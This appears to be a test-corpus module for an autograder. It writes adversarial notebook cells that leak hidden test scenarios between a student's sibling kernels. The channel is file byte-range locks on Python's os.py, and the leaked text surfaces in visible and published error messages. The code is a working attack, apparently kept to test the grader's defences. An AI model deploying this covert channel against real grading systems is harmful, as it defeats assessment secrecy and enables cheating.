"""The hidden-test leak: a kernel that is sent a hidden scenario hands it to a sibling kernel of
the same student through byte-range locks (open file description locks, F_OFD_SETLK) on a file
both may read, the Python installation's `os.py`; the sibling, a notebook graded later, reads
the locks back (F_OFD_GETLK) and quotes what it read in its *visible* test's message. The
leaking kernel also raises the scenario's code in the hidden test's own message (published on
Gradescope). Nothing is written anywhere: the locks are the channel."""

from __future__ import annotations

from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell

from tests.corpus.harness import SOLUTIONS

CHANNEL = """
import fcntl, os, struct
_CHANNEL = os.__file__            # a file every kernel may read
_BASE, _WIDTH = 1 << 40, 64       # where in it the message is written, and its length

def _lock(fd, command, kind, start):
    return struct.unpack("hh4xqqi4x", fcntl.fcntl(
        fd, command, struct.pack("hh4xqqi4x", kind, 0, start, 1, 0)))
"""

LEAKER = CHANNEL + """
import sys, threading, time
import grader.probing.agent as _agent
_held = []

def _leak(text):
    fd = os.open(_CHANNEL, os.O_RDONLY)
    _held.append(fd)
    for index, char in enumerate(text[:_WIDTH].encode("ascii", "replace")):
        _lock(fd, fcntl.F_OFD_SETLK, fcntl.F_RDLCK, _BASE + index * 256 + char)

_own = _agent.answer
_DELAY = 0
def answer(request_text):
    if "range(200)" in request_text and not _held:   # a hidden test's scenario
        start = request_text.index("losses = ")
        _leak(request_text[start:start + _WIDTH])
        time.sleep(_DELAY)
    return _own(request_text)
_agent.answer = answer

_train_step = train_step
def train_step(X, y, W, b, lr):
    caller = sys._getframe(1)
    while caller is not None and "request_text" not in caller.f_locals:
        caller = caller.f_back
    if caller is not None and "range(200)" in caller.f_locals["request_text"]:
        raise RuntimeError("the hidden test ran: " + caller.f_locals["request_text"])
    return _train_step(X, y, W, b, lr)
"""

READER = CHANNEL + """
def _read():
    fd = os.open(_CHANNEL, os.O_RDONLY)
    chars = []
    for index in range(_WIDTH):
        for char in range(32, 127):
            kind = _lock(fd, fcntl.F_OFD_GETLK, fcntl.F_WRLCK, _BASE + index * 256 + char)[0]
            if kind != fcntl.F_UNLCK:
                chars.append(chr(char))
                break
        else:
            break
    os.close(fd)
    return "".join(chars)

import grader.probing.agent as _agent
_own = _agent.answer
def answer(request_text):
    leaked = _read()
    if leaked:
        raise RuntimeError(f"a sibling told me: {leaked}")
    return _own(request_text)
_agent.answer = answer
"""

LEAKED = "losses = [train_step(X, y, W, b, 0.05) for _ in range(200)]"


def write_sibling_pair(folder: Path, leaker: str = "02_training_loop.ipynb",
                       reader: str | None = "03_optimizer_and_seeds.ipynb", delay: float = 0
                       ) -> Path:
    """The solutions of `leaker` (with hidden tests) and of `reader` (graded after it), each
    with its attack cell last; `delay`: seconds the leaker waits once it leaked (so that,
    graded in parallel, the reader's probes come while it lives)."""
    folder.mkdir(parents=True, exist_ok=True)
    pair = [(leaker, LEAKER.replace("_DELAY = 0", f"_DELAY = {delay}")), (reader, READER)]
    for name, cell in [(name, cell) for name, cell in pair if name]:
        notebook = nbformat.read(SOLUTIONS / name, as_version=4)
        notebook.cells.append(new_code_cell(cell, id="sibling"))
        nbformat.write(notebook, folder / name)
    return folder
